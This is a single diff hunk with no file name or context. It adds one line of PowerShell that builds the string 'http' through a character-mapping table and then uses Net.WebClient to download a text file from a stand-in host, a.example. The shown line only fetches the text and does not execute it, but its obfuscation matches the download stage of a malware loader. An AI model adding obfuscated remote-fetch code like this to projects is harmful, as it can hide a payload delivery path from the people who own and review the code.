@@ -1,0 +1,1 @@
+$m=@{'1'='h';'2'='t';'3'='p'};$u='';foreach($c in '1223'.ToCharArray()){$u+=$m[[string]$c]};(New-Object Net.WebClient).DownloadString($u+'://a.example/p/x.txt')
